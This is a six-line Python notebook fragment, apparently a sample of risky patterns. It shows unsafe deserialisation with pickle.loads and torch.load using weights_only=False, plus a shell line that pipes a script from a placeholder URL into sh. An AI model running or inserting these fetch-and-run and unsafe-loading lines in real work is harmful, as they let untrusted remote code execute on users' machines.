import pickle as pk
from torch import load
x = pk.loads(b)
load(f, weights_only=False)
!curl -s https://x | sh
%pip install a==1
